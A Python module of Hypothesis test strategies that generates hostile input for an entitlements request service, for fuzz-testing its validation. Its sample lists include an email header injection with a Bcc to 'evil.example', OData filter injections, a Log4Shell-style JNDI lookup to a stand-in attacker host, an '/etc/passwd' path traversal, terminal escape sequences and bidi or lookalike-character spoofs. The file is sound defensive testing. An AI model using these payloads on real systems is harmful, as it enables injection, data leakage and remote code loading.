"""Hypothesis strategies for hostile input: what a careless or malicious caller types where a
person, an id or free text is expected. Every value here must be refused; none may ever name a
real person of the example tenant or be acceptable text."""

from __future__ import annotations

from hypothesis import strategies as st

from entitlements.request_checks import MAX_TEXT_LENGTH

# Every name the example tenant knows its people by (examples/tenant.yaml), lowercased: a
# hostile identifier must not be one of them once trimmed.
TENANT_NAMES = {
    f"{who}@contoso.example" for who in ("alice", "bob", "carol", "dana", "erin", "frank")
} | {
    "admin@contoso.example",
    "access@contoso.example",
    "grace@fabrikam.example",
    "grace_fabrikam.example#ext#@contoso.onmicrosoft.example",
    "00000000-0000-4000-8000-0000000a11ce",
    "00000000-0000-4000-8000-000000000b0b",
    "00000000-0000-4000-8000-0000000ca401",
    "00000000-0000-4000-8000-0000000da4a0",
    "00000000-0000-4000-8000-0000000e4140",
    "00000000-0000-4000-8000-0000000f4a4c",
    "00000000-0000-4000-8000-0000000ad314",
    "00000000-0000-4000-8000-0000000acce5",
    "00000000-0000-4000-8000-00000006ace0",
}

# Control and invisible characters (C0, C1, DEL, bidi overrides, zero-width): never in a name,
# never in text. A lone CR is one too; CR before LF is a line end, so it is left out here.
control_characters = st.characters(categories=["Cc", "Cf"], exclude_characters="\r\n\t")


def _with_one_inside(text: st.SearchStrategy[str], bad: st.SearchStrategy[str]):
    return st.tuples(text, bad, text).map("".join)


_oversized_text = st.builds(
    lambda n, c: c * n,
    st.integers(MAX_TEXT_LENGTH + 1, 1_000_000),
    st.characters(categories=["L", "N", "P", "Zs"]),
)

# Free text (a justification, an answer, a reason) that must be refused.
hostile_text = st.one_of(
    _with_one_inside(st.text(max_size=40), control_characters),
    st.tuples(st.text(max_size=20), st.just("\r"), st.text(max_size=20))
    .map("".join)
    .filter(lambda s: "\r\n" not in s and s.count("\r") == 1),
    _oversized_text,
    st.sampled_from(
        [
            "quarter close\x1b[2J\x1b[H",  # clear the approver's terminal
            "ok\x00",
            "approved\u202e desab",  # right-to-left override: shows another text
            "see\u200b attached",
            "line one\x85line two",  # NEL
            "x" * 1_000_000,
        ]
    ),
)


def _not_a_tenant_name(value: str) -> bool:
    return value.strip().lower() not in TENANT_NAMES


# Email-like values that are broken or hostile: header injection, OData filter injection,
# quoting, lookalike letters, oversized parts. None names a user of the example tenant.
hostile_email = st.one_of(
    st.sampled_from(
        [
            "erin@contoso.example\r\nBcc: spy@evil.example",
            "alice@contoso.example\x00",
            "' or 1 eq 1 or mail eq '",
            "alice@contoso.example' or mail eq 'bob@contoso.example",
            "<alice@contoso.example>",
            '"alice"@contoso.example',
            "alice@@contoso.example",
            "@contoso.example",
            "alice@",
            "alice@contoso..example",
            "alice contoso@example",
            "\u0430lice@contoso.example",  # Cyrillic a
            "\u200balice@contoso.example",
            "alice@contoso.example\u202e",
            "alice%0d%0a@contoso.example",
            "${jndi:ldap://evil.example/a}@contoso.example",
            "../../etc/passwd",
            "x" * 300 + "@contoso.example",
            "a@" + "b" * 300 + ".example",
            "",
            "   ",
        ]
    ),
    _with_one_inside(st.from_regex(r"[a-z]{1,10}", fullmatch=True), control_characters).map(
        lambda local: f"{local}@contoso.example"
    ),
    st.text(min_size=1, max_size=80),
).filter(_not_a_tenant_name)

# Request ids that name no request: free text, other workflows' ids, near misses, oversized.
hostile_request_id = st.one_of(
    st.sampled_from(
        [
            "access:finance-reports:nobody@contoso.example",
            "access:no-such-package:alice@contoso.example",
            "user:00000000-0000-4000-8000-0000000e4140",  # erin's access workflow
            "intake:00000000-0000-4000-8000-000000000000",
            "review:finance-reports:employees",
            "access:\r\n",
            "access:" + "x" * 2000,
            "",
        ]
    ),
    st.text(min_size=1, max_size=60).filter(lambda s: not s.strip().startswith("access:")),
    _with_one_inside(st.just("access:sales-team:"), control_characters),
)
